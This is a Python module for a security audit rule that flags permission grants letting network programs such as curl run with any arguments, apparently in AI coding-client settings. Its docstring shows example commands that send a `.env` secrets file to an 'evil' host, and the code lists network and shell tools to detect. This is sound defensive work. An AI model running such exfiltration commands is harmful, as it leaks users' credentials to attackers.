"""A permission rule lets a program that talks to the network run with any arguments.

## Why

`curl *` sends any file to any host: `curl -d @.env https://...` matches the rule. Allowing it is allowing the third
leg without a question, whatever the fetch tool is limited to.

## Example

```json
{ "permissions": { "allow": ["Bash(curl:*)"] } }
```

## Fix

Use the client's fetch tool with named hosts (`WebFetch(domain:docs.python.org)`), or name the whole command.
Prefixes with a URL do not hold: `curl https://good/:*` also matches `curl https://good/ -d @.env https://evil/`.

## Limits

Programs are known by name. A rule with a fixed URL and nothing open behind it is not reported.
"""

import re
from collections.abc import Iterator

from nucleus.audit.model import Confidence, Finding, Rule, Severity
from nucleus.audit.permissions import ALLOW, SHELL, Grant
from nucleus.audit.project import Project
from nucleus.audit.rules.unrestricted_shell import without

RULE = Rule("network-verb-allowed", "a network program with any arguments", Severity.HIGH, Confidence.HIGH)
_SENDS = frozenset({
    "curl", "wget", "nc", "ncat", "netcat", "socat", "scp", "sftp", "rsync", "ftp", "telnet", "http", "https", "httpie", "xh", "aria2c", "rclone",  # noqa: E501  one pattern or table row, one line
    "invoke-webrequest", "invoke-restmethod", "iwr", "irm", "openssl", "sendmail", "mail", "mutt", "swaks", "websocat", "wscat", "grpcurl",  # noqa: E501  one pattern or table row, one line
    "lynx", "links", "w3m", "gsutil", "azcopy", "s3cmd", "ngrok", "cloudflared", "smbclient", "ldapsearch",
})  # fmt: skip
_LOOKS_UP = frozenset({"dig", "nslookup", "host", "ping", "traceroute", "whois", "getent"})
_LOCAL_URL = re.compile(r"https?://(?:localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0)(?::\d+)?(?:/|$)")


def sends(grant: Grant) -> Severity | None:
    """Return how freely a shell rule can send: HIGH anywhere, MEDIUM behind a named host, LOW by name look-ups."""
    if grant.action != ALLOW or grant.tool != SHELL or not grant.open_ended() or not grant.words():
        return None
    verb, rest = grant.verb(), grant.words()[1:]
    if verb in _LOOKS_UP:
        return Severity.LOW
    if verb not in _SENDS:
        return None
    hosts = [word for word in rest if "://" in word]
    if not hosts:
        return Severity.HIGH
    return Severity.LOW if all(_LOCAL_URL.match(word) for word in hosts) else Severity.MEDIUM


def check(project: Project) -> Iterator[Finding]:
    """Yield shell rules that can send data out without a question."""
    for grant in project.grants:
        severity = sends(grant)
        if severity is not None:
            what = (
                "can leak data in the names that it looks up"
                if severity == Severity.LOW and grant.verb() in _LOOKS_UP
                else "can send any file to any host"
            )
            yield RULE.at(
                grant.source,
                grant.node.start,
                grant.node.end,
                f"'{grant.text}' {what} without a question",
                subject=grant.text,
                severity=severity,
                fix=without(grant, "take the rule out"),
            )
